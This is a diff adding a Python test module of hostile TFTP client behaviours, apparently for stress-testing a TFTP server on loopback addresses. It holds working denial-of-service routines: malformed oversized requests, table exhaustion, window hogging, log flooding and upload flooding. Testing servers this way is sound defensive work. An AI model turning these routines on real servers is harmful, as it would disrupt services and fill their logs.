@@ -1,0 +1,160 @@
+"""What hostile clients do over TFTP. Each attack ends by itself, after so many packets or seconds."""
+import contextlib
+import socket
+import threading
+import time
+
+from target import Deadline
+from tftp_wire import WRQ, ack, data, request
+
+LARGEST = 65_507  # bytes that fit into a datagram over IPv4
+
+
+def padded(head, filling):
+    return head + filling * ((LARGEST - len(head)) // len(filling))
+
+
+def deep_name(parts):
+    return "/" + "a/" * parts + "ap1g7"
+
+
+# Requests that nobody means.
+ODD_REQUESTS = {
+    "empty options": padded(request("/big"), b"\0\0"),
+    "known options": padded(request("/big"), b"blksize\x00512\0"),
+    "long option": padded(request("/big", "blksize"), b"9"),
+    "long name": padded(b"\0\1/", b"a"),
+    "deep name": padded(b"\0\1", b"/a")[:-8] + b"\0octet\0",
+    "many NULs": padded(b"\0\1", b"\0"),
+    "write": padded(request("/uploads/x", opcode=WRQ), b"tsize\x005\0"),
+    "17 options": request("/big", *["blksize", 512] * 17),
+    "random opcode": padded(b"\0\x2a", b"x"),
+}
+
+
+def bound_to(source, timeout=5):
+    sock = socket.socket(socket.AF_INET6 if ":" in source else socket.AF_INET, socket.SOCK_DGRAM)
+    sock.bind((source, 0))
+    sock.settimeout(timeout)
+    return sock
+
+
+def odd_requests(target, kind, source="127.0.0.2", count=100):
+    """Each from a port of its own: a request from the same port is the same request again."""
+    with contextlib.ExitStack() as stack:
+        for _ in range(count):
+            sock = stack.enter_context(contextlib.closing(bound_to(source)))
+            sock.sendto(ODD_REQUESTS[kind], target.tftp)
+            time.sleep(0.005)  # the server's receive buffer holds only a few of these
+        time.sleep(1)
+
+
+@contextlib.contextmanager
+def left_alone(address, sources, count, acknowledge=False, name="/big"):
+    """`count` requests of each of the sources, which are never answered, or once. Yields how many packets came back."""
+    with contextlib.ExitStack() as stack:
+        answered = 0
+        for source in sources:
+            for number in range(count):
+                sock = stack.enter_context(contextlib.closing(bound_to(source, 0.3)))
+                sock.sendto(request(name, "timeout", 255), address)
+                if acknowledge:
+                    with contextlib.suppress(TimeoutError):
+                        _, peer = sock.recvfrom(1024)
+                        sock.sendto(ack(0), peer)
+                        answered += 1
+                elif number % 20 == 19:
+                    time.sleep(0.01)
+        yield answered
+
+
+def table_exhaustion(target, seconds, sources=("127.0.0.3", "127.0.0.4"), count=300):
+    until = Deadline(seconds)
+    while until:
+        with left_alone(target.tftp, sources, count):
+            time.sleep(max(0, min(2, until.rest)))
+
+
+MISSES = {"deep": deep_name(200), "deepest": deep_name(450), "short": "/nothing/ap1g7",
+          "prefixed": "/x/y/EWC/17.9.5/ap1g7"}
+
+
+def misses(target, seconds, kind="deep", rate=200, source="127.0.0.5"):
+    """Asks for what is not there, below the limit of requests."""
+    until, sent, began = Deadline(seconds), 0, time.monotonic()
+    packet = request(MISSES[kind])
+    with contextlib.ExitStack() as stack:
+        ports = [stack.enter_context(contextlib.closing(bound_to(source))) for _ in range(200)]
+        while until:
+            due = int((time.monotonic() - began) * rate) - sent
+            for _ in range(min(due, 200)):
+                ports[sent % len(ports)].sendto(packet, target.tftp)
+                sent += 1
+            time.sleep(0.005)
+    return sent
+
+
+def window_hog(target, seconds, transfers=64, source="127.0.0.6", window=64, block_size=65_464):
+    """Acknowledges each block by itself, so that each ACK asks for a whole window again."""
+    until = Deadline(seconds)
+
+    def hog():
+        with contextlib.closing(bound_to(source, 1)) as sock:
+            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+            while until:
+                sock.sendto(request("/big", "blksize", block_size, "windowsize", window), target.tftp)
+                try:
+                    _, peer = sock.recvfrom(1024)
+                except (TimeoutError, ConnectionError):
+                    continue
+                for block in range(1025):
+                    if not until:
+                        return
+                    with contextlib.suppress(ConnectionError):
+                        sock.sendto(ack(block), peer)
+                    if block % 16 == 15:
+                        time.sleep(0.001)
+
+    threads = [threading.Thread(target=hog) for _ in range(transfers)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+
+
+# What a log is to be filled with: a name that is served all the same, and the text of an ERROR.
+WORDY_NAME = b"\\" * 900 + b"EWC" + b"\\" * 60 + b"17_9_4a\\version.info"
+WORDY_ERROR = b"\0\5\0\0" + b"\1" * 1024 + b"\0"
+
+
+def log_flood(target, seconds, source="127.0.0.7", most=20_000):
+    until, asked = Deadline(seconds), 0
+    while until and asked < most:
+        with contextlib.ExitStack() as stack:
+            ports = [stack.enter_context(contextlib.closing(bound_to(source, 0.2))) for _ in range(50)]
+            for sock in ports:
+                sock.sendto(b"\0\1" + WORDY_NAME + b"\0octet\0", target.tftp)
+            asked += len(ports)
+            for sock in ports:
+                with contextlib.suppress(OSError):
+                    _, peer = sock.recvfrom(2048)
+                    sock.sendto(WORDY_ERROR, peer)
+    return asked
+
+
+def uploads(target, seconds, source="127.0.0.8", most=2000):
+    """Small files of ever new names, and ones that send more than they announced."""
+    until, sent = Deadline(seconds), 0
+    while until and sent < most:
+        with contextlib.closing(bound_to(source, 1)) as sock:
+            sock.sendto(request(f"/uploads/flood/{sent}", "tsize", 5, opcode=WRQ), target.tftp)
+            sent += 1
+            with contextlib.suppress(OSError):
+                _, peer = sock.recvfrom(1024)
+                for block in range(1, 20):
+                    sock.sendto(data(block, bytes(512)), peer)
+                    answer, _ = sock.recvfrom(1024)
+                    if answer[1] == 5:
+                        break
+    return sent
+
